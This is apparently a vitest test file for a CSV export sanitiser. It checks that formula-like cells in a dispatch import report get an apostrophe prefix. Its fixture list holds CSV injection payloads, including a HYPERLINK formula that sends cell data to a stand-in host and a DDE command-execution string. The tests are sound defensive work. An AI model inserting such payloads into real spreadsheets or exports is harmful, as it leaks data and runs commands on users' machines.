import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../shared/dispatch/csv';
import { spreadsheetSafeCell } from '../../shared/export/spreadsheet-safe';
import { reportCsv } from '../../renderer/features/dispatch/import-run';

const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

describe('CSV injection', () => {
  it('prefixes every cell a spreadsheet would run as a formula, and leaves other text alone', () => {
    for (const formula of formulas) expect(spreadsheetSafeCell(formula)).toBe(`'${formula}`);
    for (const plain of ['ACME-1', 'Jane Doe', '12 Main St', '', "'already"]) expect(spreadsheetSafeCell(plain)).toBe(plain);
    fc.assert(
      fc.property(fc.string(), (text) => {
        expect(/^[=+\-@\t\r]/.test(spreadsheetSafeCell(text))).toBe(false);
      }),
    );
  });

  it('neutralises hostile values in the dispatch import report', () => {
    const csv = reportCsv({
      dryRun: true,
      fileProblems: [],
      counts: { rows: 1, goodRows: 0, badRows: 1, accounts: 0, created: 0, updated: 0, unchanged: 0, needsPin: 0 },
      rows: formulas.map((formula, index) => ({ row: index + 2, client: formula, accountRef: formula, serial: formula, outcome: 'error' as const, problems: [formula], notes: [] })),
    });
    const cells = parseCsv(csv).slice(1).flatMap((record) => record.fields);
    expect(cells.length).toBeGreaterThan(0);
    for (const cell of cells) expect(/^[=+\-@\t\r]/.test(cell), cell).toBe(false);
  });
});
